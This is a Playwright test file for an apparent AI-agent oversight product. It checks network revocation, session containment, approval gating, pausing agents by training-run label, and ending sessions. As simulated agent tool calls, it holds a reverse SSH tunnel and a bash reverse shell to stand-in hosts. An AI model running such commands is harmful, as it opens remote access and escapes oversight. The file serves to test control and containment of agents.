// Containment in a real browser on real sessions: the network revoked while the connections count down, a containment step by step,
// two operators at once, everything by selector, and an end that is held down. No mock anywhere.
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { expect, type Locator, type Page, test } from '@playwright/test'
import { listenOnLoopback, type Peer } from './peer.ts'
import { type Product, signIn, startProduct, until, whyNoCgroup } from './product.ts'

const missing = whyNoCgroup()
test.skip(missing !== undefined && !process.env.CI, `LEFT OUT: ${missing}`)

let product: Product
let folder: string
let peer: Peer
test.beforeAll(async () => {
  product = await startProduct()
  folder = mkdtempSync(path.join(tmpdir(), 'vigil-e2e-containment-'))
  peer = await listenOnLoopback()
})
test.afterAll(async () => {
  peer.close()
  await product.stop()
  rmSync(folder, { recursive: true, force: true })
})

type Detail = {
  row: { state: string; openConnections: number; holds: { control: string }[]; control?: { control: string } }
  capabilities: { capability: string; enforced: string; wanted: boolean; observed?: string }[]
  connections: { closedAtMs?: number; cut: boolean }[]
  controls: { control: string; action: string; state: string }[]
}
type Control = {
  state: string
  plan: string[]
  steps: { name: string; at: number; detail: string; ok: boolean; observedFrom?: string }[]
  receipt: { observed: string } | null
}
const detailOf = (session: string) => product.json<Detail>(`/api/sessions/${session}`)
const controlOf = (id: string) => product.json<Control>(`/api/controls/${id}?waitMs=8000`)
/** What a session last counted; a file that is being written is read again. */
const counterOf = (session: string) => () => {
  const file = path.join(folder, session)
  for (let tries = 0; tries < 100 && existsSync(file); tries += 1) {
    const count = Number(readFileSync(file, 'utf8'))
    if (count > 0) return count
  }
  return 0
}

/** A real command with `connections` open connections that all carry traffic, and a counter that shows that it runs. */
async function run(session: string, connections: number, labels: string[] = []): Promise<void> {
  const open = Array.from({ length: connections }, (_, i) => `exec ${i + 3}<>/dev/tcp/127.0.0.1/${peer.port}; `).join(
    '',
  )
  const send = Array.from({ length: connections }, (_, i) => `echo $i >&${i + 3} 2>/dev/null || true; `).join('')
  const loop = `${open}i=0; trap '' PIPE; while true; do i=$((i+1)); echo $i > ${path.join(folder, session)}; ${send}sleep 0.03; done`
  const given = labels.flatMap((label) => ['--label', label])
  product.vigil('run', '--session', session, '--agent', 'rome-30b', ...given, '--', 'bash', '-c', loop)
  await until(`${session} is known with its connections`, async () => {
    const answer = await product.api(`/api/sessions/${session}`)
    return answer.ok && ((await answer.json()) as Detail).row.openConnections >= connections
  })
}

async function end(session: string): Promise<void> {
  await post(`/api/sessions/${session}/controls`, { action: 'end' })
  await until(`${session} has ended`, async () => (await detailOf(session)).row.state === 'ended')
}

async function post(pathname: string, body: object): Promise<{ id: string }> {
  const answer = await product.api(pathname, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  })
  expect(answer.ok, `${pathname} answered ${answer.status}`).toBe(true)
  return (await answer.json()) as { id: string }
}

async function holdDown(page: Page, button: Locator): Promise<void> {
  await button.hover()
  await page.mouse.down()
  await sleep(2_000)
  await page.mouse.up()
}

test('the network is revoked in one click: connections count down to none, the receipt fills, and nothing more arrives', async ({
  page,
}) => {
  await run('net-1', 3)
  await signIn(page, product)
  await page.goto(`${product.url}/sessions/net-1`)
  const connections = page.getByRole('region', { name: 'Connections' })
  await expect(connections.getByText(/^3 open/)).toBeVisible()
  const network = page.getByRole('region', { name: 'Capabilities' })
  await expect(network.getByText(/nft-egress/).first()).toBeVisible()

  // When
  await network.getByRole('button', { name: /^Revoke: network/i }).click()

  // Then: the table counts down, each step of the receipt comes as it is observed, the last one some seconds later.
  await expect(connections.getByText(/^0 open/)).toBeVisible()
  await expect(connections.getByText(/\bcut\b/).first()).toBeVisible()
  const receipt = page.getByRole('region', { name: 'Holds and receipts' })
  for (const step of [/Egress dropped/i, /Flows killed/i, /Confirmed|Enforced/i])
    await expect(receipt.getByText(step).first()).toBeVisible()
  await expect(network.getByText(/enforced/).first()).toBeVisible()
  const { row, capabilities } = await detailOf('net-1')
  expect(capabilities.find((each) => each.capability === 'network')).toMatchObject({ wanted: true, enforced: 'yes' })
  const arrived = peer.received()
  const before = counterOf('net-1')()
  await sleep(1_000)
  expect(peer.received()).toBe(arrived)
  await until('only the network is gone: the program runs on', () => counterOf('net-1')() > before)
  await expect(receipt.getByText(/Verified/i).first()).toBeVisible({ timeout: 10_000 })
  const control = await controlOf(row.holds[0]?.control ?? '')
  expect(control.state).toBe('enforced')
  expect(control.steps.filter((step) => !step.ok)).toEqual([])
  expect(control.steps.find((step) => step.name === 'verified')?.detail).toContain('no packet')

  // When it is given back, then what was queued is not sent, and the receipt says that it was reverted.
  await network.getByRole('button', { name: /^Restore: network/i }).click()
  await expect(network.getByRole('button', { name: /^Revoke: network/i })).toBeVisible()
  await sleep(500)
  expect(peer.received()).toBe(arrived)
  await until('reverted', async () =>
    (await controlOf(row.holds[0]?.control ?? '')).steps.some((step) => step.name === 'reverted'),
  )
  await end('net-1')
})

test('a session is contained in one click, step by step, and let go again', async ({ page }) => {
  await run('con-1', 2)
  await signIn(page, product)
  await page.goto(`${product.url}/sessions/con-1`)
  await page.getByRole('button', { name: /^Contain con-1/ }).click()
  await expect(page.locator('strong', { hasText: /^Contained$/ })).toBeVisible()
  const { row } = await detailOf('con-1')
  const [counter, arrived] = [counterOf('con-1')(), peer.received()]
  const control = await controlOf(row.holds[0]?.control ?? '')
  expect(control.state).toBe('enforced')
  const names = control.steps.map((step) => step.name)
  const at = (name: string) => names.indexOf(name)
  expect(at('evidence taken')).toBeGreaterThan(at('requested'))
  expect(at('egress dropped')).toBeGreaterThan(at('evidence taken'))
  expect(at('flows killed')).toBeGreaterThan(at('egress dropped'))
  expect(at('frozen')).toBeGreaterThan(at('flows killed'))
  expect(at('enforced')).toBeGreaterThan(at('frozen'))
  await until('it is verified as quiet', async () =>
    (await controlOf(row.holds[0]?.control ?? '')).steps.some((step) => step.name === 'verified' && step.ok),
  )
  expect([counterOf('con-1')(), peer.received()]).toEqual([counter, arrived])

  // The evidence is in the log: processes with the hash of their program, and the sockets from before the cut.
  const { events } = await product.json<{ events: { data: { evidence: { part: string; items: object[] } } }[] }>(
    '/api/sessions/con-1/events?kinds=evidence.recorded&limit=100',
  )
  const items = (part: string) => events.flatMap(({ data }) => (data.evidence.part === part ? data.evidence.items : []))
  expect(items('processes')).toContainEqual(
    expect.objectContaining({ comm: 'bash', exeSha256: expect.stringMatching(/^[0-9a-f]{64}$/) }),
  )
  expect(items('sockets').length).toBeGreaterThanOrEqual(2)

  await page
    .getByRole('button', { name: /^Release/ })
    .first()
    .click()
  await until('it runs again', () => counterOf('con-1')() > counter)
  expect(peer.received()).toBe(arrived)
  await end('con-1')
})

test('with keys alone: an incident that formed by itself is taken, contained, what waits is approved, and a note is written, over a cut connection', async ({
  page,
}) => {
  // Given: a session that runs, and what its agent reports of itself.
  await run('inc-1', 1)
  const data = { call: 'c1', tool: 'shell', input: 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40' }
  await post('/api/ingest/events', { v: 1, kind: 'action.started', atMs: Date.now(), session: 'inc-1', data })
  type Listed = { incident: string; status: string; containedSessions: number; containedAtMs?: number }
  const incident = async () =>
    (await product.json<{ incidents: Listed[] }>('/api/incidents?session=inc-1')).incidents.at(0)
  await until('the incident is there', async () => (await incident()) !== undefined)
  await signIn(page, product)
  const press = async (...keys: string[]) => {
    for (const key of keys) await page.keyboard.press(key)
  }
  const line = page.getByRole('link', { name: /SSH opens a port on the far side/ })

  // When: it is found and taken.
  await press('g', 'i')
  await page.waitForURL('**/incidents')
  await expect(line).toBeVisible()
  await press('j')
  await expect(line).toBeFocused()
  await press('Enter')
  const held = page.getByText('0 of 1 seen held or ended')
  await expect(held).toBeVisible()
  await press('a')
  await expect(page.getByText(/^Acknowledged$/)).toBeVisible()
  expect(await incident()).toMatchObject({ status: 'acknowledged', containedSessions: 0 })

  // And: the connection is cut in the middle. Then: a key does nothing that nobody would see.
  const contain = page.getByRole('button', { name: 'Contain 1 session' })
  await page.context().setOffline(true)
  await expect(contain).toHaveAttribute('aria-disabled', 'true')
  await press('c')
  await page.context().setOffline(false)
  await expect(contain).toHaveAttribute('aria-disabled', 'false')
  expect((await detailOf('inc-1')).controls).toEqual([])

  // When: it is contained.
  await press('c')

  // Then: what the page says is what the host read, and the program stands still.
  await expect(held).toBeHidden()
  await expect(page.getByText(/^Contained$/).first()).toBeVisible()
  expect(await incident()).toMatchObject({ status: 'contained', containedSessions: 1 })
  const { row } = await detailOf('inc-1')
  expect(row.state).toBe('paused')
  const counter = counterOf('inc-1')()

  // When: another agent asks for something risky, and a person lets it.
  const started = { v: 1, kind: 'session.started', atMs: Date.now(), session: 'asks-1' }
  await post('/api/ingest/events', { ...started, data: { held: 'none', abilities: [] } })
  const headers = { 'content-type': 'application/json' }
  const call = {
    session: 'asks-1',
    callId: 'c-1',
    tool: 'Bash',
    input: { command: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' },
  }
  const answer = product.api('/api/gate', {
    method: 'POST',
    headers,
    body: JSON.stringify({ ...call, deadlineMs: 60_000 }),
  })
  await press('g', 'a')
  await page.waitForURL('**/approvals**')
  const approve = page.getByRole('button', { name: /^Approve once/ })
  await expect(approve).toHaveAttribute('aria-disabled', 'false')
  const again = page.getByRole('button', { name: /^Press again to let it run/ })
  await page.waitForTimeout(500) // a key that was meant for something else must not decide
  await press('a')
  await expect(again).toBeVisible()
  await page.waitForTimeout(500)
  await press('a')
  expect(await (await answer).json()).toMatchObject({ decision: 'allow' })

  // And a note is written.
  await page.goBack()
  await expect(page.getByRole('textbox', { name: 'Note' })).toBeVisible()
  await press('n')
  await page.keyboard.type('The far end is a VPS, **not ours**.')
  await press('Control+Enter')
  await expect(page.getByRole('list', { name: /^Log/ }).getByText('not ours')).toBeVisible()
  expect(counterOf('inc-1')()).toBe(counter)

  // And when it is let go, it is contained no longer.
  await post(`/api/sessions/inc-1/controls`, { action: 'release' })
  await until('it runs again', () => counterOf('inc-1')() > counter)
  await until('it says so', async () => (await incident())?.containedSessions === 0)
  await expect(held).toBeVisible()
  await page.getByRole('button', { name: 'Resolve…' }).click()
  const dialog = page.getByRole('dialog')
  await dialog.getByText('Real', { exact: true }).click()
  await dialog.getByRole('button', { name: 'Resolve', exact: true }).click()
  await expect(dialog).toBeHidden()
  expect(await incident()).toMatchObject({ status: 'resolved' })
  await end('inc-1')
})

test('an action is denied and its session paused with one key: the agent gets the denial, the pause is observed by its host', async ({
  page,
}) => {
  await run('deny-1', 1)
  const call = {
    session: 'deny-1',
    callId: 'c-1',
    tool: 'Bash',
    input: { command: 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40' },
    deadlineMs: 60_000,
  }
  const headers = { 'content-type': 'application/json' }
  const answer = product.api('/api/gate', { method: 'POST', headers, body: JSON.stringify(call) })
  await signIn(page, product)
  await page.goto(`${product.url}/approvals`)
  const card = page.getByRole('article', { name: /^Approval: / })
  await expect(card.getByRole('button', { name: /^Deny \+ pause/ })).toHaveAttribute('aria-disabled', 'false')

  await page.keyboard.press('Shift+D')
  expect(await (await answer).json()).toMatchObject({ decision: 'deny' })
  await expect(card.getByText('Denied. The pause is asked: its session tells when the host has read it.')).toBeVisible()
  await until('paused', async () => (await detailOf('deny-1')).row.state === 'paused')
  const { row } = await detailOf('deny-1')
  const control = await controlOf(row.holds[0]?.control ?? '')
  expect(control.state).toBe('enforced')
  expect(control.receipt?.observed).toContain('frozen')
  const counter = counterOf('deny-1')()
  await page.goto(`${product.url}/sessions/deny-1`)
  await expect(
    page.getByRole('region', { name: 'Holds and receipts' }).getByText('an action was denied').first(),
  ).toBeVisible()
  expect(counterOf('deny-1')()).toBe(counter)
  await end('deny-1')
})

test('two operators press Pause at once: one effect, two records, and it stays paused until both are lifted', async ({
  page,
}) => {
  await run('two-1', 1)
  await signIn(page, product)
  await page.goto(`${product.url}/sessions/two-1`)
  await expect(page.getByRole('button', { name: 'Pause two-1', exact: true })).toBeVisible()
  // One as the signed-in operator, one as a script, in the same moment.
  await Promise.all([
    page.request.post(`${product.url}/api/sessions/two-1/controls`, {
      data: { action: 'pause' },
      headers: { origin: product.url },
    }),
    post('/api/sessions/two-1/controls', { action: 'pause', reason: 'script' }),
  ])
  await until('paused', async () => (await detailOf('two-1')).row.state === 'paused')
  await until('each has its end', async () => {
    const { controls } = await detailOf('two-1')
    return controls.length === 2 && controls.every((each) => each.state === 'enforced')
  })
  expect((await detailOf('two-1')).row.holds).toHaveLength(2)
  await expect(page.getByRole('region', { name: 'Holds and receipts' }).getByText('script').first()).toBeVisible()
  const counter = counterOf('two-1')()
  await post('/api/sessions/two-1/controls', { action: 'resume' })
  await sleep(300)
  expect((await detailOf('two-1')).row.state).toBe('paused')
  expect(counterOf('two-1')()).toBe(counter)
  await page.getByRole('button', { name: /^Resume two-1/ }).click()
  await until('it goes on', () => counterOf('two-1')() > counter)
  await end('two-1')
})

test('everything of a training run is contained by selector, a session that starts later too, until it is lifted', async () => {
  await run('run-1', 1, ['run=rl-0831'])
  await run('run-2', 1, ['run=rl-0831'])
  await run('other', 1, ['run=rl-0900'])
  const { id } = await post('/api/containments', { selector: { run: 'rl-0831' }, reason: 'mining' })
  const states = async (...sessions: string[]) =>
    Promise.all(sessions.map(async (session) => (await detailOf(session)).row.state))
  await until('both are held', async () => (await states('run-1', 'run-2')).every((state) => state === 'paused'))
  product.vigil(
    'run',
    '--session',
    'run-3',
    '--label',
    'run=rl-0831',
    '--',
    'bash',
    '-c',
    'while :; do sleep 0.05; done',
  )
  await until('the later one is held', async () => {
    const answer = await product.api('/api/sessions/run-3')
    return answer.ok && ((await answer.json()) as Detail).row.state === 'paused'
  })
  expect(await states('other')).toEqual(['running'])
  const view = await product.json<{ held: number; sessions: number }>(`/api/containments/${id}`)
  expect(view).toMatchObject({ held: 3, sessions: 3 })
  await post(`/api/containments/${id}/lift`, {})
  await until('all run', async () => (await states('run-1', 'run-2', 'run-3')).every((state) => state === 'running'))
  for (const session of ['run-1', 'run-2', 'run-3', 'other']) await end(session)
})

test('an end is held down, and the session is dead only when the kernel says that nothing is left', async ({
  page,
}) => {
  await run('end-1', 1)
  await signIn(page, product)
  await page.goto(`${product.url}/sessions/end-1`)
  const button = page.getByRole('button', { name: /Hold to end/ })
  await button.click()
  await sleep(300)
  expect((await detailOf('end-1')).row.state).toBe('running')
  await holdDown(page, button)
  await until('it has ended', async () => (await detailOf('end-1')).row.state === 'ended')
  const { controls } = await detailOf('end-1')
  expect(controls.find((each) => each.action === 'end')).toMatchObject({ state: 'enforced' })
})
